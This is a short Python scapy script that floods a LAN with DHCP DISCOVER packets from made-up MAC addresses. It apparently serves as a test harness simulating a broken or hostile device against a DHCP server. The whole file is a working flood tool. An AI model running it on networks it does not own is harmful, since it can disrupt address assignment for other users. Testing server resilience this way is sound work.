"""A DISCOVER flood from made-up MAC addresses that never send a REQUEST (a broken or hostile LAN device), sent
with scapy from a LAN device (run with Debian's /usr/bin/python3): python3 discover_flood.py IFACE COUNT."""
import random
import sys

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, sendp

conf.verb = 0
iface, count = sys.argv[1], int(sys.argv[2])
rng = random.Random(14)
packets = []
for _ in range(count):
    mac = bytes([0x0a] + [rng.randrange(256) for _ in range(5)])
    text = ":".join(f"{b:02x}" for b in mac)
    packets.append(
        Ether(src=text, dst="ff:ff:ff:ff:ff:ff")
        / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67)
        / BOOTP(chaddr=mac, xid=rng.randrange(1 << 32), flags=0x8000)
        / DHCP(options=[("message-type", "discover"), "end"])
    )
sendp(packets, iface=iface, inter=0.002)
print(f"sent {count} DISCOVERs from {count} made-up MAC addresses")
